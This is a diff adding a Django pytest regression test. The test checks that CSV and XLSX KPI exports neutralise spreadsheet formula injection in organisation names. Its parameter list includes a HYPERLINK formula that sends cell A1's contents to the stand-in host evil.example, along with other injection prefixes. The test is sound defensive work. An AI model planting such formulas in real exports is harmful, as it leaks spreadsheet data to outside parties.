@@ -136,3 +136,28 @@ def test_the_dashboard_needs_few_queries_at_region_scale(
     with django_assert_max_num_queries(19):
         response = carla.get(reverse("web:kpis"), {**Q2, "breakdown": "learning_location"})
     assert response.status_code == 200
+
+
+FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"Klik")'
+
+
+@pytest.mark.parametrize("name", [FORMULA, "+31 6 1234", "-2+3", "@SUM(A1)", "\tx", "\rx"])
+def test_exports_never_carry_a_live_formula(carla: Client, region: dict, name: str) -> None:  # noqa: F811
+    """Regression: a learning location renamed to a formula came out raw in the
+    CSV and as a live formula (cell type f) in the XLSX."""
+    from accounts.models import Organisation, OrganisationKind
+
+    Organisation.objects.filter(kind=OrganisationKind.LEARNING_LOCATION).update(name=name)
+    query = {**Q2, "breakdown": "learning_location"}
+    text = carla.get(reverse("web:kpi_export", args=["csv"]), query).content.decode("utf-8-sig")
+    cells = [c for row in csv.reader(io.StringIO(text), delimiter=";") for c in row]
+    assert "'" + name in cells
+    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)
+    book = load_workbook(
+        io.BytesIO(carla.get(reverse("web:kpi_export", args=["xlsx"]), query).content)
+    )
+    sheet_cells = [c for row in book.active.iter_rows() for c in row]
+    # XML reads a carriage return back as a line feed.
+    assert "'" + name.replace("\r", "\n") in [c.value for c in sheet_cells]
+    assert not any(c.data_type == "f" for c in sheet_cells)
+    assert any(c.data_type == "n" for c in sheet_cells)  # figures stay numbers
